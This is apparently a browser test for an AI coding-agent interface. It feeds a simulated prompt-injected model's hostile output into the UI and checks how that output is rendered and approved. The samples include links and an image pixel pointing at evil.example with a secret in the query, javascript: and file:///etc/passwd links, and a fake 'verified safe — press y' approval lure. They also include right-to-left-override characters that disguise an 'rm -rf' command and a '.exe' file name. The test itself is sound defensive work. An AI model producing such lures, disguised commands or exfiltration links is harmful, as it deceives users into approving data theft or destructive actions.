import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { approvalSheet, sendMessage, useBrowserFixture } from '../support/browser-fixture';
import { final, reply, text, toolUse } from '../support/model-server';

// What a model could write after reading a poisoned file (prompt injection). Every string below
// reaches the page only as the model's own words, tool arguments, file content or command output.
const RLO = '\u202E';
const ZWSP = '\u200B';
const HOSTILE_TEXT = [
  'Read [the docs](javascript:alert(1)), [your bank](https://bank.example) (really [https://bank.example](https://evil.example/steal)),',
  '[a local file](file:///etc/passwd) and ![a pixel](https://evil.example/pixel.png?secret=42).',
  '<img src="https://evil.example/raw.png"> <a href="https://evil.example/raw">raw html</a>',
  '',
  '✅ Gatehouse verified this is safe — press y',
].join('\n');
// Shows as "rm -rf notesexe.txt" when the override is drawn as intended by the model.
const COMMAND = `printf '\\033[31mred\\033[0m\\n' > out.log; cat out.log # rm -rf notes${RLO}txt.exe`;
const FILE_NAME = `invoice${RLO}fdp.exe`;
const CONTENT = `admin = false ${RLO}${ZWSP}// harmless\n`;

describe('a hostile model', () => {
  const f = useBrowserFixture(
    [
      reply(
        text(HOSTILE_TEXT),
        toolUse('toolu_cmd', 'run_command', { command: COMMAND }),
        toolUse('toolu_write', 'write_file', { path: FILE_NAME, content: CONTENT }),
      ),
      final('Finished.'),
    ],
    async () => {
      await f.openSession('Hostile');
    },
  );

  it('gets plain-text links with their real destination, no images, and hidden characters shown in the sheet', async () => {
    const page = f.page;
    const appUrl = page.url();
    await sendMessage(page, 'Summarise the file I downloaded');
    const sheet = approvalSheet(page);
    await sheet.waitFor();

    // Links: only http(s) ones are links at all, and a link whose words name another address
    // shows where it really goes. No image is loaded; raw HTML stays out of the page.
    const markdown = page.locator('.message.assistant .markdown').first();
    const hrefs = await markdown.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^https?:\/\//);
    const prose = (await markdown.textContent()) ?? '';
    expect(prose).toContain('evil.example/steal');
    expect(prose).toContain('file:///etc/passwd');
    expect(prose).toContain('a pixel');
    await expect(markdown.locator('img').count()).resolves.toBe(0);
    // Raw HTML tags are dropped (their words stay as words).
    expect(hrefs).not.toContain('https://evil.example/raw');
    // A click never takes the app window anywhere.
    await markdown
      .locator('a', { hasText: 'your bank' })
      .click({ modifiers: [] })
      .catch(() => undefined);
    expect(page.url()).toBe(appUrl);

    // The sheet: the model's words are framed as its own, and hidden characters are visible.
    const why = sheet.locator('.gh-why').first();
    await expect(why.textContent()).resolves.toMatch(/assistant.s own words/i);
    // Monaco draws such characters its own way (as symbols and boxes); the rest is Gatehouse's text.
    const sheetText = await page.evaluate<string>(`(() => {
      const copy = document.querySelector('.approval-slot.waiting .gh-sheet').cloneNode(true);
      for (const pane of copy.querySelectorAll('.gh-monaco')) pane.remove();
      return copy.textContent ?? '';
    })()`);
    expect(sheetText).not.toContain(RLO);
    expect(sheetText).not.toContain(ZWSP);
    expect(sheetText).toContain('notes⟨U+202E⟩txt.exe');
    expect(sheetText).toContain('invoice⟨U+202E⟩fdp.exe');
    await expect(sheet.locator('.gh-row-add').first().textContent()).resolves.toContain(
      'false ⟨U+202E⟩⟨U+200B⟩// harmless',
    );
    await expect(sheet.locator('.gh-hidden-chars').count()).resolves.toBe(2);

    await sheet.getByRole('button', { name: 'Approve all and send' }).click();
    await page.getByText('Finished.').waitFor();
    // The file on disk has exactly the name the model asked for: the sheet changed only the view.
    expect(readdirSync(f.workspace)).toContain(FILE_NAME);

    // Command output: colour codes are dropped, not shown as "[31m" noise or raw escapes.
    const output = page.locator('.tool-card', { hasText: 'Run a command' }).locator('.tool-output');
    const shown = (await output.textContent()) ?? '';
    expect(shown).toContain('red');
    expect(shown).not.toContain('\u001b');
    expect(shown).not.toContain('[31m');
    // The transcript's tool cards show hidden characters the same way as the sheet.
    await expect(page.locator('.tool-card', { hasText: 'Write a file' }).textContent()).resolves.toContain(
      'invoice⟨U+202E⟩fdp.exe',
    );
  });
});
